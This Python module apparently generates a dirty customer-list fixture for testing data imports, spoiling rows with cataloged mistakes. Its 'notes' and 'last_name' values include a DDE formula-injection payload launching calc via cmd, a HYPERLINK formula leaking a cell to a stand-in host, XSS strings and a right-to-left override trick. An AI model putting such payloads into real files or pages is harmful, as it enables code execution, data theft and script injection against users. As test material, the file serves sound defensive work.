"""The customer list as it really arrives: three exports pasted under each other, and edited by hand.

Rows 0-139 come from a notebook (floats and naive times), rows 140-269 from a German spreadsheet
(serial dates, decimal commas), the rest from the old CRM (mostly sound text).
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from random import Random

from shop import Person, chance, iso, stream

Row = dict[str, str]

NOTEBOOK, SPREADSHEET, CRM = range(140), range(140, 270), range(270, 385)
EVERYWHERE = range(385)
CRM_AND_DOUBLES = range(270, 399)
EXCEL_DAY_ZERO = datetime(1899, 12, 30, tzinfo=UTC)


@dataclass(frozen=True, slots=True, kw_only=True)
class Mistake:
    """One way to spoil a cell: `{}` in a value stands for what the cell held before."""

    what: str
    column: str
    count: int
    values: tuple[str, ...]
    rows: range = EVERYWHERE


@dataclass(frozen=True, slots=True, kw_only=True)
class Habit:
    """What an export does to every cell of a column that no mistake has reached."""

    what: str
    column: str
    rows: range
    write: Callable[[str], str]


MISTAKES = (
    Mistake(what="missing id", column="user_id", count=16, values=("",), rows=NOTEBOOK),
    Mistake(what="placeholder id (`nan`, `None`, `null`, `N/A`, `#N/A`, `unknown`, `guest`, `-`, `0`, zero UUID)",
            column="user_id", count=20, rows=CRM,
            values=("nan", "None", "unknown", "N/A", "null", "guest", "#N/A", "-", "0", "00000000-0000-0000-0000-000000000000")),
    Mistake(what="id padded with blanks", column="user_id", count=12, values=(" {}", "{} ", "  {}  ", "{}\t"), rows=SPREADSHEET),
    Mistake(what="id with a zero-width or no-break space", column="user_id", count=6, values=("\u200b{}", "{}\u200b", "\u00a0{}"), rows=SPREADSHEET),
    Mistake(what="id in scientific notation", column="user_id", count=4, values=("1.05E+04", "1.1234E+04"), rows=SPREADSHEET),
    Mistake(what="id beyond 2^53 that went through a float", column="user_id", count=2, values=("9.007199254740994e+16", "1.2345678901234568e+17"), rows=NOTEBOOK),
    Mistake(what="truth value as id", column="user_id", count=2, values=("TRUE", "False"), rows=CRM),
    Mistake(what="id beginning with `cio_`", column="user_id", count=2, values=("cio_{}",), rows=CRM),
    Mistake(what="id over 150 bytes", column="user_id", count=1, values=("{}-" * 30,), rows=CRM),
    Mistake(what="missing email", column="email", count=8, values=("",), rows=NOTEBOOK),
    Mistake(what="placeholder email", column="email", count=6, values=("nan", "N/A", "unknown", "none@none"), rows=NOTEBOOK),
    Mistake(what="invalid email", column="email", count=16,
            values=("mailto:{}", "{};{}", "<{}>", "{}.", "@{}", "not given", "{},", "www.example.com")),
    Mistake(what="email padded or with a zero-width space", column="email", count=6, values=(" {}", "{} ", "{}\u200b")),
    Mistake(what="time without a date that exists (`31/02/2025`, `0000-00-00`, `2025-13-01`, `1/0/1900`)", column="signup_date", count=6,
            values=("31/02/2025", "0000-00-00", "2025-13-01T00:00:00Z", "1/0/1900")),
    Mistake(what="time far in the future or the past", column="signup_date", count=4, values=("2062-07-01T12:00:00Z", "0001-01-01T00:00:00Z"), rows=CRM),
    Mistake(what="epoch milliseconds", column="signup_date", count=5, values=("1731456000000", "1759312800123", "1764547200000"), rows=CRM),
    Mistake(what="placeholder or missing time", column="signup_date", count=8, values=("NaT", "", "n/a", "-")),
    Mistake(what="number with a currency sign", column="lifetime_value", count=6, values=("€ 1.234,56", "$1,234.56", "CHF 99.-")),
    Mistake(what="number that is none (`#VALUE!`, `inf`, `nan`, `-`)", column="lifetime_value", count=8, values=("#VALUE!", "inf", "nan", "-")),
    Mistake(what="placeholder name (`NULL`, `#N/A`, `undefined`, `[object Object]`)", column="first_name", count=8,
            values=("NULL", "#N/A", "undefined", "[object Object]")),
    Mistake(what="emoji in a name", column="first_name", count=6, values=("{} 🌸", "👩🏽‍🌾 {}", "{}✨"), rows=CRM),
    Mistake(what="mojibake", column="city", count=5, values=("ZÃ¼rich", "KÃ¶ln", "MalmÃ¶"), rows=SPREADSHEET),
    Mistake(what="HTML entity", column="last_name", count=3, values=("{} &amp; Co", "O&#39;{}"), rows=CRM),
    Mistake(what="NUL or control character", column="last_name", count=4, values=("{}\x00", "\x07{}", "{}\x1b[31m"), rows=NOTEBOOK),
    Mistake(what="right-to-left override", column="last_name", count=1, values=("{}\u202egpj",), rows=CRM),
    Mistake(what="plan nobody sells", column="plan", count=5, values=("Club", "clubplus", "FREE ", "premium")),
    Mistake(what="spreadsheet formula", column="notes", count=6,
            values=('=HYPERLINK("https://prize.example.net/?c="&B2,"Claim refund")', "+1-555-CALL-NOW", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0")),
    Mistake(what="HTML or script", column="notes", count=6,
            values=("<script>alert('otter')</script>", "<img src=x onerror=alert(1)>", '<b>VIP</b> <a href="javascript:alert(1)">profile</a>')),
    Mistake(what="card number (a test number that passes Luhn)", column="notes", count=3,
            values=("paid by phone with 4111 1111 1111 1111, exp 12/28", "card 4111-1111-1111-1111", "4111111111111111 ok")),
    Mistake(what="IBAN (the specimen of the standard)", column="notes", count=1, values=("refund to DE89 3704 0044 0532 0130 00",)),
    Mistake(what="value over 1,000 bytes", column="notes", count=3, values=("Called again about the late parcel; " * 40,)),
    Mistake(what="value that makes the message larger than 32,000 bytes", column="notes", count=1, values=("-----Original Message-----\n" * 1_500,)),
    Mistake(what="line break inside a cell", column="notes", count=4, values=("first line\nsecond line", "Windows\r\nline end")),
)  # fmt: skip


def _serial(cell: str) -> str:
    days = (datetime.fromisoformat(cell) - EXCEL_DAY_ZERO).total_seconds() / 86_400
    return f"{days:.5f}".rstrip("0")


def _day_first(cell: str) -> str:
    return datetime.fromisoformat(cell).strftime("%d/%m/%Y")


def _decimal_comma(cell: str) -> str:
    return f"{float(cell):,.2f}".translate(str.maketrans(",.", ".,"))


HABITS = (
    Habit(what="id as a float", column="user_id", rows=NOTEBOOK, write=lambda cell: f"{cell}.0"),
    Habit(what="naive time", column="signup_date", rows=NOTEBOOK, write=lambda cell: cell[:-1].replace("T", " ")),
    Habit(what="day-first date", column="signup_date", rows=range(140, 210), write=_day_first),
    Habit(what="Excel serial date", column="signup_date", rows=range(210, 270), write=_serial),
    Habit(what="European number", column="lifetime_value", rows=SPREADSHEET, write=_decimal_comma),
    Habit(what="truth value as `JA`/`NEIN`", column="unsubscribed", rows=SPREADSHEET, write={"true": "JA", "false": "NEIN"}.__getitem__),
    Habit(what="truth value as `1`/`0`", column="unsubscribed", rows=CRM_AND_DOUBLES, write={"true": "1", "false": "0"}.__getitem__),
    Habit(what="leading zero lost in a postal code", column="address.zip", rows=range(270),
          write=lambda cell: cell.lstrip("0") if cell.isdigit() else cell),
)  # fmt: skip
COLUMN_MISTAKES = {
    "column `Unnamed: 0`": 1,
    "pair of columns apart in case only (`email`, `Email`)": 1,
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Dirty:
    """The spoilt rows, and how often each mistake is in them."""

    rows: list[Row]
    counts: dict[str, int]


def dirty_people(seed: int, people: list[Person]) -> Dirty:
    """Spoil 385 people's rows and add 15 more: duplicates and a line of totals."""
    rng = stream(seed, "dirt")
    chosen = rng.sample([person for person in people if person.email], k=len(EVERYWHERE))
    rows = [_row(rng, person) for person in chosen]
    clean = [dict(row) for row in rows]
    touched: set[tuple[int, str]] = set()
    counts = dict(_spoil(rng, rows, touched=touched))
    counts |= _add(rows, _doubles(rng, rows=rows, clean=clean))
    counts |= {habit.what: _form(habit, rows, touched=touched) for habit in HABITS}
    counts |= _add(
        rows, {"line of totals": [{"first_name": "TOTAL", "lifetime_value": "38.412,70"}]}
    )
    for number, row in enumerate(rows):
        row["Unnamed: 0"] = str(number)
    return Dirty(rows=rows, counts=counts | COLUMN_MISTAKES)


def _row(rng: Random, person: Person) -> Row:
    remarks = (
        "prefers loose leaf",
        "gift wrapping",
        "met at the Leeds fair",
        "pays by invoice",
        "left-handed mug",
    )
    return {
        "user_id": person.id,
        "email": person.email,
        "Email": person.email if chance(rng, 0.35) else "",
        "first_name": person.first_name,
        "last_name": person.last_name,
        "signup_date": iso(person.created_ms),
        "plan": person.plan,
        "lifetime_value": f"{1_500 * person.appetite:.2f}",
        "unsubscribed": "true" if person.unsubscribed else "false",
        "city": person.place.city,
        "address.zip": person.zip,
        "phone": person.phone,
        "notes": rng.choice(remarks) if chance(rng, 0.2) else "",
    }


def _spoil(
    rng: Random, rows: list[Row], *, touched: set[tuple[int, str]]
) -> Iterator[tuple[str, int]]:
    yield _swap(rng, rows, touched=touched)
    for mistake in MISTAKES:
        free = [number for number in mistake.rows if (number, mistake.column) not in touched]
        for turn, number in enumerate(sorted(rng.sample(free, k=mistake.count))):
            value = mistake.values[turn % len(mistake.values)]
            rows[number][mistake.column] = value.replace("{}", rows[number][mistake.column])
            touched.add((number, mistake.column))
        yield mistake.what, mistake.count


def _swap(rng: Random, rows: list[Row], *, touched: set[tuple[int, str]]) -> tuple[str, int]:
    swapped = rng.sample(CRM, k=9)
    for number in swapped:
        row = rows[number]
        row["user_id"], row["email"] = row["email"], row["user_id"]
        touched |= {(number, "user_id"), (number, "email")}
    return "id and email swapped", len(swapped)


def _form(habit: Habit, rows: list[Row], *, touched: set[tuple[int, str]]) -> int:
    changed = 0
    for number in habit.rows:
        before = rows[number][habit.column]
        if (number, habit.column) not in touched:
            rows[number][habit.column] = habit.write(before)
            changed += rows[number][habit.column] != before
    return changed


def _doubles(rng: Random, *, rows: list[Row], clean: list[Row]) -> dict[str, list[Row]]:
    """Repeat rows without a mistake, so that no mistake is there more often than counted."""
    sound = [n for n in CRM if rows[n] == clean[n]]
    picked = rng.sample(sound, k=14)
    again, shouted, renamed = picked[:4], picked[4:9], picked[9:]
    return {
        "row twice (but for its number)": [dict(rows[n]) for n in again],
        "same id again, email in mixed case": [
            rows[n] | {"email": rows[n]["email"].upper()} for n in shouted
        ],
        "same email in mixed case under another id": [
            rows[n] | {"user_id": f"9{rows[n]['user_id']}", "email": rows[n]["email"].title()}
            for n in renamed
        ],
    }


def _add(rows: list[Row], more: dict[str, list[Row]]) -> dict[str, int]:
    for extra in more.values():
        rows.extend(extra)
    return {what: len(extra) for what, extra in more.items()}
